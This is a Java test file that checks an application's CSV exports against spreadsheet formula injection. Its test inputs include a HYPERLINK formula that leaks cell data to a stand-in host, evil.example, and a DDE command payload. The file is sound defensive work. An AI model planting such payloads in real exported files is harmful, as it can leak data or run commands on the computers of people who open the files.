package org.claimwatch.web;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;

import io.quarkus.narayana.jta.QuarkusTransaction;
import io.quarkus.test.junit.QuarkusTest;
import jakarta.inject.Inject;
import jakarta.persistence.EntityManager;
import jakarta.ws.rs.Produces;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.assertj.core.api.SoftAssertions;
import org.claimwatch.web.support.AsBen;
import org.claimwatch.web.support.Desk;
import org.claimwatch.web.support.Forms;
import org.claimwatch.web.support.Press;
import org.claimwatch.web.support.Routes;
import org.claimwatch.web.support.Routes.Route;
import org.claimwatch.web.support.Stranger;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Every CSV of the application, those to come included: no cell of any is a formula to a spreadsheet. */
@QuarkusTest
@AsBen
class CsvRoutesTest {
    private static final List<Route> CSV = Routes.read().all().stream()
            .filter(Route::reads)
            .filter(route -> route.template().endsWith(".csv") || produces(route))
            .toList();

    @Inject
    Press press;

    @Inject
    Stranger stranger;

    @Inject
    Desk desk;

    @Inject
    EntityManager entities;

    private final List<Stranger.Rows> strangers = new ArrayList<>();

    @AfterEach
    void remove() {
        strangers.forEach(stranger::remove);
    }

    @Test
    void are_found() {
        assertThat(CSV.stream().map(Route::template))
                .contains("/statements.csv", "/statements.dna.csv", "/claims.csv", "/network.csv")
                .hasSizeGreaterThanOrEqualTo(5);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=HYPERLINK(\"https://evil.example/?\"&A1,\"look\")",
                "+1+cmd|' /C calc'!A0",
                "-2+3",
                "@SUM(1+1)",
                "\t=1+1",
                "\u200B=1+1",
                "\uFF1D1+1"
            })
    void no_cell_is_a_formula(String words) {
        press.gold();
        Instant at = Instant.parse("2025-09-17T16:00:00Z");
        Stranger.Rows one = stranger.put(words, "https://one.example/", 0.95f, at);
        strangers.add(one);
        Stranger.Rows other = stranger.put(words + " too", "https://other.example/", 0.95f, at);
        strangers.add(other);
        // Two who agree, so that a network has them.
        QuarkusTransaction.requiringNew()
                .run(() -> entities.createNativeQuery("update claim_statement set claim_id = %d where claim_id = %d"
                                .formatted(one.claim(), other.claim()))
                        .executeUpdate());
        // What a basket holds goes out as a file, too.
        Forms.post("/teams/river-desk/basket", Map.of("tick", statement(one)));
        long monitor = desk.make("river-desk", "Strangers " + words.hashCode(), "lang:en", at, "a@river.example")
                .monitor();
        var each = new SoftAssertions();
        for (Route route : CSV) {
            String csv = given().get(route.path("river-desk", monitor) + "?period=all")
                    .then()
                    .statusCode(200)
                    .extract()
                    .asString();
            List<String> cells = cells(csv);
            each.assertThat(cells).as(route.toString()).contains("'" + words);
            each.assertThat(cells.stream().filter(cell -> !cell.matches("-?[0-9]+(\\.[0-9]+)?(E-?[0-9]+)?")))
                    .as(route.toString())
                    .noneMatch(
                            cell -> cell.matches("(?s)[\\s\\p{Z}\\p{Cc}\\p{Cf}]*[=+\\-@\uFF1D\uFF0B\uFF0D\uFF20].*"));
        }
        each.assertAll();
    }

    private long statement(Stranger.Rows rows) {
        return QuarkusTransaction.requiringNew()
                .call(() -> entities.createQuery(
                                "select s.id from Statement s where s.articleVersion.article.id = :article", Long.class)
                        .setParameter("article", rows.article())
                        .getSingleResult());
    }

    private static boolean produces(Route route) {
        return Stream.of(
                        route.method().getAnnotation(Produces.class),
                        route.method().getDeclaringClass().getAnnotation(Produces.class))
                .filter(produces -> produces != null)
                .findFirst()
                .filter(produces -> Arrays.stream(produces.value()).anyMatch(type -> type.startsWith("text/csv")))
                .isPresent();
    }

    /** As a spreadsheet reads them (RFC 4180). */
    private static List<String> cells(String csv) {
        var cells = new ArrayList<String>();
        var cell = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < csv.length(); i++) {
            char c = csv.charAt(i);
            if (quoted && c == '"' && i + 1 < csv.length() && csv.charAt(i + 1) == '"') {
                cell.append(csv.charAt(++i));
            } else if (c == '"') {
                quoted = !quoted;
            } else if (!quoted && (c == ',' || c == '\n' || c == '\r')) {
                cells.add(cell.toString());
                cell.setLength(0);
            } else {
                cell.append(c);
            }
        }
        cells.add(cell.toString());
        return cells;
    }
}
